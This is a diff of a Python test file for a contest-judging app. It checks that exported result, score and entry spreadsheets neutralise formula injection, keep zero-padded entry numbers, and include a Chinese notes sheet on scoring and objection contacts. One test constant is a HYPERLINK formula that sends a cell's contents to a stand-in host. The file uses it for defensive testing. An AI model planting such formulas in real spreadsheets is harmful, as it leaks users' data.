@@ -1,9 +1,12 @@
-"""Spreadsheets never run what contestants or judges typed: formula injection in every export."""
+"""Spreadsheets never run what contestants or judges typed (formula injection in every
+export); numbers keep their zeros, flags are Chinese, and the XLSX says how it was made."""
 
 from __future__ import annotations
 
 import csv
 import io
+import json
+from datetime import UTC, date, datetime
 from typing import Any
 
 import pytest
@@ -12,9 +15,15 @@ from openpyxl import load_workbook
 from sqlalchemy.orm import Session
 
 from judging import spreadsheet
-from judging.rounds import assigned_entries
+from judging.exports import entries_table, scores_table
+from judging.ranking import TIE_AT_BOUNDARY
+from judging.results import publish_snapshot, results, to_csv, to_json, to_xlsx
+from judging.rounds import assign_round, assigned_entries, eligible_entries
 from judging.scoring import save_score
-from storage.models import Entry
+from storage.models import Contest, Entry, Round, User
+from tests.factories import post_confirmed
+from tests.test_judging_flow import FULL as FLOW_FULL
+from tests.test_judging_flow import judged  # noqa: F401 - the fixture
 from tests.test_judging_web import FULL, started_round
 
 FORMULA = '=HYPERLINK("http://x/?"&C2,"点击查看")'
@@ -72,10 +81,104 @@ def test_every_export_neutralises_formulas(
     for url in ("/admin/judging/results", "/admin/judging/scores", "/admin/entries"):
         for fmt in ("csv", "xlsx"):
             assert_inert(client.get(f"{url}.{fmt}"), fmt)
-    client.post("/admin/judging/close")
-    published = client.post("/admin/judging/publish", follow_redirects=True)
+    post_confirmed(client, "/admin/judging/close")
+    published = post_confirmed(client, "/admin/judging/publish")
     snapshot = published.get_data(as_text=True).split('href="/announcements/')[1].split('"')[0]
     auth.logout()
     for fmt in ("csv", "xlsx"):
         assert_inert(client.get(f"/announcements/{snapshot}.{fmt}"), fmt)
     assert client.get(f"/announcements/{snapshot}.ods").status_code == 404
+
+
+def test_results_exports_keep_zeros_name_flags_in_chinese_and_explain_themselves(
+    session: Session,
+    judged: tuple[Contest, Round, list[User]],  # noqa: F811
+) -> None:
+    contest, rnd, judges = judged
+    contest.award_tiers = [{"name": "一等奖", "count": 1}, {"name": "二等奖", "share": 0.5}]
+    contest.tie_break = ["appeal"]
+    session.commit()
+    assign_round(session, rnd, eligible_entries(session, contest), seed=4)
+    for judge in judges:
+        for entry in assigned_entries(session, rnd, judge.id):
+            # Every entry gets the same sheet: one big tie across the 一等奖 line.
+            save_score(session, rnd, judge, entry, dict(FLOW_FULL), "", submit=True)
+    rows = results(session, rnd)
+    assert all(TIE_AT_BOUNDARY in r.flags for r in rows)
+
+    text = to_csv(rows)
+    assert "tie_at_award_boundary" not in text and "获奖线并列" in text
+    header, *body = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert header[:2] == ["名次", "编号"] and "评委人数" in header
+    assert sorted(line[1] for line in body) == [f"{n:04d}" for n in range(1, 7)]
+    assert json.loads(to_json(rows))[0]["flag_names"][0] == "获奖线并列"
+
+    moment = datetime(2026, 12, 1, 4, 30, tzinfo=UTC)
+    book = load_workbook(io.BytesIO(to_xlsx(rows, now=moment)))
+    table, notes = book.worksheets
+    numbers = [row[1] for row in table.iter_rows(min_row=2)]
+    assert sorted(c.value for c in numbers) == [f"{n:04d}" for n in range(1, 7)]
+    assert {c.data_type for c in numbers} == {"s"} and {c.number_format for c in numbers} == {"@"}
+    assert notes.title == "说明"
+    about = {row[0].value: row[1].value for row in notes.iter_rows(min_row=2)}
+    assert about["活动"] == "评审测试" and about["评审轮次"] == "初评"
+    assert about["计分方法"].startswith("去掉最高分和最低分后的平均分：去掉一个最高分")
+    assert about["去分所需评委人数"].startswith("至少 5 人")
+    assert about["每件作品评委人数（设定）"] == "3 人"
+    assert about["每件作品评委人数（实际提交）"] == "3 人"
+    assert about["奖项设置（按所列顺序评定）"] == "一等奖 1 件；二等奖 参评作品的 50%（四舍五入）"
+    assert about["同分时依次比较"].startswith("感染力")
+    assert about["导出时间"] == "2026-12-01 12:30:00（北京时间）"
+
+
+def test_the_published_announcement_downloads_with_its_publicity_and_objection_contact(
+    client: FlaskClient,
+    session: Session,
+    judged: tuple[Contest, Round, list[User]],  # noqa: F811
+) -> None:
+    contest, rnd, judges = judged
+    contest.publicity_starts_on, contest.publicity_ends_on = date(2026, 12, 2), date(2026, 12, 8)
+    contest.objection_office = "团市委创建青年文明号活动组委会办公室"
+    contest.objection_phone = "0531-88886666"
+    contest.objection_email = "youth@example.org"
+    session.commit()
+    assign_round(session, rnd, eligible_entries(session, contest), seed=7)
+    for judge in judges:
+        for entry in assigned_entries(session, rnd, judge.id):
+            save_score(session, rnd, judge, entry, dict(FLOW_FULL), "", submit=True)
+    snapshot = publish_snapshot(session, rnd)
+
+    text = client.get(f"/announcements/{snapshot.id}.csv").get_data(as_text=True)
+    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert lines[0] == ["名次", "编号", "作品名称", "集体名称", "得分", "奖项"]  # the table alone
+    assert {line[1] for line in lines[1:]} == {f"{n:04d}" for n in range(1, 7)}
+
+    book = load_workbook(io.BytesIO(client.get(f"/announcements/{snapshot.id}.xlsx").data))
+    table, notes = book.worksheets
+    assert {row[1].value for row in table.iter_rows(min_row=2)} == {f"{n:04d}" for n in range(1, 7)}
+    about = {row[0].value: row[1].value for row in notes.iter_rows(min_row=2)}
+    assert about["公示期"] == "2026-12-02 至 2026-12-08"
+    assert about["异议受理单位"] == "团市委创建青年文明号活动组委会办公室"
+    assert about["异议联系电话"] == "0531-88886666"
+    assert about["异议电子邮箱"] == "youth@example.org"
+    assert "异议联系人" not in about  # not set, so not shown as empty
+    assert about["校验码（SHA-256）"] == snapshot.sha256
+    assert about["计分方法"].startswith("去掉最高分和最低分后的平均分")
+    assert about["导出时间"].endswith("（北京时间）")
+
+
+def test_entry_and_score_lists_write_numbers_with_their_zeros(
+    session: Session,
+    judged: tuple[Contest, Round, list[User]],  # noqa: F811
+) -> None:
+    contest, rnd, judges = judged
+    assign_round(session, rnd, eligible_entries(session, contest), seed=2)
+    judge = judges[1]
+    save_score(
+        session, rnd, judge, assigned_entries(session, rnd, judge.id)[0], FLOW_FULL, "", True
+    )
+    session.expire_all()  # the factory's entries hold their category as text until reloaded
+    for header, body in (entries_table(session, contest), scores_table(session, rnd)):
+        assert header[0] == "编号"
+        assert body and all(isinstance(line[0], str) and len(line[0]) == 4 for line in body)
+        assert {line[0] for line in body} <= {f"{n:04d}" for n in range(1, 7)}
